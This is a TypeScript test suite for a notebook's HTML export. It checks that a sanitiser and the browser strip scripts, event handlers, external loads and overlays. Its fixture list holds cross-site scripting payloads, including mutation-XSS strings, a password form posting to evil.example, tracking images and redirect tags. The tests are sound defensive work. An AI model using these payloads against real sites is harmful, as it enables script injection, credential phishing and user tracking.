import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { JSDOM } from "jsdom";
import type { Browser } from "playwright-core";
import { notebookPage, type PageOptions } from "../../../../kernel/notebook/export/page.js";
import { withRunRecord } from "../../../../kernel/notebook/run-record.js";
import type { Cell, MimeData } from "../../../../kernel/notebook/types.js";
import { launchChromium } from "../../../browser/chromium.js";
import { code, markdown, notebookOf, Scratch, shown } from "../support.js";

const pageOf = (cells: readonly Cell[], options: Partial<PageOptions> = {}): string =>
  notebookPage(notebookOf(...cells), { file: "audit.ipynb", withInput: true, plots: "static", ...options });

const documentOf = (page: string): Document => new JSDOM(page).window.document;

const display = (data: MimeData, metadata = {}): Cell =>
  shown({ output_type: "display_data", data, metadata });

const pixel =
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
const figure = {
  "application/vnd.plotly.v1+json": {
    data: [{ type: "scatter", x: [1, 2], y: [1, 2] }],
    layout: { title: { text: "</script><script>alert(1)</script>" } },
  },
  "image/png": pixel,
  "text/plain": "A line from 1 to 2.",
};

/** Each would run, load or overlay something if it came through. */
const attacks = [
  "<script>attack()</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  '<img src=x onerror="attack()">',
  '<svg><script>attack()</script></svg><svg onload="attack()">',
  '<a href="javascript:attack()">x</a><a href="data:text/html,<script>attack()</script>">x</a>',
  '<iframe srcdoc="<script>attack()</script>"></iframe><object data="x"></object><embed src="x">',
  '<form action="https://evil.example"><input name="password"><button>ok</button></form>',
  "<style>body { display: none }</style><link rel=stylesheet href=https://evil.example/x.css>",
  '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">x</div>',
  '<img src="https://evil.example/track.png"><img src="//evil.example/track.png">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attack()&gt;">',
  '<math><annotation-xml encoding="text/html"><script>attack()</script></annotation-xml></math>',
  '<details ontoggle="attack()" open>x</details><p id="content" name="Plotly" class="banner">x</p>',
];

describe("an exported page", () => {
  for (const attack of attacks) {
    it(`is not harmed by ${attack.slice(0, 60)}`, () => {
      const page = pageOf([
        markdown(`# T\n\n${attack}\n`),
        display({ "text/html": attack }),
        display({ "text/markdown": attack }),
        display({ "text/latex": attack }),
        shown({ output_type: "stream", name: "stdout", text: attack }),
        shown({ output_type: "error", ename: attack, evalue: attack, traceback: [attack] }),
        { ...code(attack), metadata: { tags: [attack.replaceAll(",", "")] } } as Cell,
      ]);
      const document = documentOf(page);
      for (const element of document.querySelectorAll("body *")) {
        const tag = element.tagName.toLowerCase();
        assert.doesNotMatch(
          tag,
          /^(script|iframe|object|embed|form|input|button|style|link|meta|base|svg|annotation-xml)$/,
        );
        for (const { name, value } of element.attributes) {
          assert.doesNotMatch(name, /^on/);
          if (name === "src") assert.match(value, /^data:image\//);
          if (name === "href") assert.match(value, /^(#|https?:|mailto:)/);
          if (name === "style") assert.doesNotMatch(value, /url|position/);
        }
      }
      assert.equal(document.querySelectorAll("#content").length, 1);
      assert.equal(document.querySelectorAll(".banner").length, 0);
    });
  }

  it("shows formulas as MathML, and leaves code and prices alone", () => {
    const document = documentOf(
      pageOf([markdown("Cost $5 and $6, $x^2$, `$y$`\n\n```\n$z$\n```\n\n$$\n- a\n= b\n$$\n\n\\\\(q\\\\)")]),
    );
    const formulas = [...document.querySelectorAll("math annotation")].map((one) => one.textContent!.trim());
    assert.deepEqual(formulas, ["x^2", "- a\n= b", "q"]);
    assert.match(document.querySelector("main")!.textContent!, /Cost \$5 and \$6/);
    assert.deepEqual(
      [...document.querySelectorAll(".text code")].map((one) => one.textContent!.trim()),
      ["$y$", "$z$"],
    );
  });

  it("colours TypeScript and keeps its text", () => {
    const source = 'const a: number = 1; // <b> & "c"';
    const document = documentOf(pageOf([code(source)]));
    assert.equal(document.querySelector(".source code")!.textContent, source);
    assert.ok(document.querySelector(".source .tok-keyword"));
  });

  it("prefers the figure, then HTML, then the picture, and says when it can show nothing", () => {
    const document = documentOf(
      pageOf([
        display({ "text/html": "<b>html</b>", "image/png": pixel, "text/plain": "text" }),
        display({ "image/png": pixel, "text/plain": "described" }, { "image/png": { width: 7, height: 9 } }),
        display({ "application/x-unknown": "?" }),
        display({ "text/html": "<div><script>draw()</script></div>", "text/plain": "in words" }),
      ]),
    );
    const outputs = [...document.querySelectorAll(".outputs")];
    assert.equal(outputs[0]!.textContent!.trim(), "html");
    const image = outputs[1]!.querySelector("img")!;
    assert.deepEqual(
      [image.alt, image.getAttribute("width"), image.getAttribute("height")],
      ["described", "7", "9"],
    );
    assert.equal(outputs[3]!.textContent!.trim(), "in words");
    assert.match(outputs[2]!.textContent!, /application\/x-unknown cannot be shown/);
  });

  it("takes pictures from attachments and from beside the notebook, and from nowhere else", () => {
    using scratch = new Scratch();
    writeFileSync(scratch.path("near.png"), Buffer.from(pixel, "base64"));
    const text: Cell = {
      ...(markdown(
        "![a](attachment:a.png) ![n](near.png) ![up](../up.png) ![etc](/etc/x.png) ![far](https://x.example/y.png)",
      ) as Extract<Cell, { cell_type: "markdown" | "raw" }>),
      attachments: { "a.png": { "image/png": pixel } },
    };
    const document = documentOf(pageOf([text], { file: join(scratch.folder, "nb.ipynb") }));
    assert.deepEqual(
      [...document.querySelectorAll("img")].map((image) => image.alt),
      ["a", "n"],
    );
    assert.equal(document.querySelectorAll("em").length, 3);
  });

  it("says on top when the run was not complete", () => {
    const run = { status: "failed", source: "", parameters: {}, stoppedAt: "c2" } as const;
    const notebook = withRunRecord(notebookOf(code("1"), code("2")), run);
    const page = notebookPage(notebook, { file: "a.ipynb", withInput: true, plots: "static" });
    assert.match(documentOf(page).querySelector(".banner")!.textContent!, /not complete: failed at cell 2/);
  });

  it("leaves out the code when asked", () => {
    const document = documentOf(
      pageOf([code("secret"), display({ "text/plain": "shown" })], { withInput: false }),
    );
    assert.doesNotMatch(document.body.textContent!, /secret/);
    assert.match(document.body.textContent!, /shown/);
  });

  it("is made from an empty notebook, too", () => {
    assert.equal(documentOf(pageOf([])).title, "audit");
  });
});

describe("an exported page in a browser", () => {
  let browser: Browser | undefined;

  before(async function () {
    browser = await launchChromium();
    if (browser === undefined) this.skip();
  });
  after(() => browser?.close());

  for (const scheme of ["light", "dark"] as const) {
    it(`draws its figures, loads nothing and runs nothing of the notebook's (${scheme})`, async () => {
      using scratch = new Scratch();
      const cells = [
        markdown(attacks.join("\n\n")),
        display(figure),
        ...attacks.map((attack) => display({ "text/html": attack })),
      ];
      writeFileSync(scratch.path("page.html"), pageOf(cells, { plots: "interactive" }));
      const page = await browser!.newPage({ colorScheme: scheme });
      const events: string[] = [];
      await page.exposeFunction("attack", () => events.push("attack"));
      page.on("dialog", (dialog) => {
        events.push(dialog.message());
        void dialog.dismiss();
      });
      page.on("pageerror", (error) => events.push(error.message));
      page.on("request", (request) => {
        if (!/^(file|data|blob):/.test(request.url())) events.push(request.url());
      });
      await page.goto(`file://${scratch.path("page.html")}`);
      await page.waitForSelector("figure.drawn .main-svg");
      assert.equal(await page.locator("figure.drawn > img").isVisible(), false);
      assert.match((await page.locator("figcaption").textContent())!, /A line from 1 to 2/);
      const font = await page.evaluate('getComputedStyle(document.querySelector(".gtitle")).fill');
      assert.equal(font, scheme === "dark" ? "rgb(230, 230, 230)" : "rgb(34, 34, 34)");
      assert.deepEqual(events, []);
      await page.close();
    });
  }

  it("shows a figure's buttons on a touch screen when it was touched, not over its title from the start", async () => {
    using scratch = new Scratch();
    writeFileSync(scratch.path("page.html"), pageOf([display(figure)], { plots: "interactive" }));
    const context = await browser!.newContext({ hasTouch: true, isMobile: true });
    const page = await context.newPage();
    await page.goto(`file://${scratch.path("page.html")}`);
    await page.locator("figure.drawn .main-svg").first().waitFor();
    const button = page.locator("figure.drawn .modebar-btn").first();
    await button.waitFor({ state: "attached" });
    assert.equal(await button.isVisible(), false);
    await page.locator("figure.drawn .interactive").tap();
    await button.waitFor();
    await context.close();
  });

  it("draws figures as wide as they want to be, on a telephone as narrow as it is and changed as they say", async () => {
    using scratch = new Scratch();
    const json = {
      data: [{ x: [1, 2], y: [1, 2], line: { color: "#0072B2" } }],
      layout: {
        title: { text: "A long title" },
        width: 640,
        meta: { narrow: { "title.text": "A long<br>title" }, dark: { "#0072B2": "#56A9E8" } },
      },
    };
    const cell = display({ "application/vnd.plotly.v1+json": json, "text/plain": "A line." });
    writeFileSync(scratch.path("page.html"), pageOf([cell], { plots: "interactive" }));
    const seen: Record<string, unknown>[] = [];
    for (const [width, colorScheme] of [
      [1000, "light"],
      [390, "dark"],
    ] as const) {
      const tab = await browser!.newPage({ viewport: { width, height: 800 }, colorScheme });
      await tab.goto(`file://${scratch.path("page.html")}`);
      await tab.waitForSelector("figure.drawn .main-svg");
      seen.push({
        width: (await tab.locator(".main-svg").first().boundingBox())!.width,
        lines: await tab.locator(".gtitle tspan").count(),
        line: await tab.evaluate("getComputedStyle(document.querySelector('.js-line')).stroke"),
        overflow: await tab.evaluate("document.documentElement.scrollWidth - innerWidth"),
      });
      await tab.close();
    }
    assert.deepEqual(seen[0], { width: 640, lines: 0, line: "rgb(0, 114, 178)", overflow: 0 });
    assert.ok((seen[1]!["width"] as number) <= 390);
    assert.deepEqual(
      { ...seen[1], width: 0 },
      { width: 0, lines: 2, line: "rgb(86, 169, 232)", overflow: 0 },
    );
  });

  it("would run no script even if one came through the sanitiser", async () => {
    using scratch = new Scratch();
    const page = pageOf([display(figure)], { plots: "interactive" });
    writeFileSync(
      scratch.path("page.html"),
      page.replace(
        "</main>",
        '<script>document.title = "hit"</script><img src=x onerror="document.title = \'hit\'"></main>',
      ),
    );
    const tab = await browser!.newPage();
    await tab.goto(`file://${scratch.path("page.html")}`);
    await tab.waitForSelector("figure.drawn .main-svg");
    assert.equal(await tab.title(), "audit");
    await tab.close();
  });
});
